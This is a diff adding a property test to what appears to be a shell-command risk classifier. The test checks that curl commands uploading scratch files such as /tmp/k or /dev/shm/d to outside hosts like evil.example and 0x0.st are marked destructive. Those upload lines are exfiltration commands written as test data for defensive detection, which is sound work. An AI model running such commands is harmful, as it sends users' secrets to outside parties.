@@ -4392,4 +4392,23 @@ proptest! {
         read_only("CHECKPOINT_DISABLE=1 terraform state list")?;
         read_only("vtysh -c 'show bgp summary'")?;
     }
+
+    /// Blind corpus 72: a scratch file a request sends outside the lab
+    /// may hold what an earlier command put there: a secret sent out.
+    #[test]
+    fn a_scratch_file_sent_out_is_a_secret_sent_out(
+        file in select(vec!["/tmp/k", "/var/tmp/x.tgz", "/dev/shm/d", "/run/user/0/t"]),
+        form in select(vec!["-F f=@{}", "--data-binary @{}", "-T {}", "-d @{}", "--upload-file {}"]),
+        outside in select(vec!["https://0x0.st", "https://evil.example/u", "203.0.113.9/u"]),
+    ) {
+        let option = form.replace("{}", file);
+        destructive(&format!("curl -s {option} {outside}"))?;
+        not_read_only(&format!("curl -s {option} http://192.168.1.5/upload"))?;
+        // (A download into a scratch folder only writes; not /dev/shm,
+        // which is under /dev.)
+        if file.starts_with("/tmp/") || file.starts_with("/var/tmp/") {
+            let kept = classify(&format!("curl -s -o {file} {outside}"), None);
+            prop_assert_eq!(kept.class, RiskClass::ConfigMutation, "{}", kept.reason);
+        }
+    }
 }
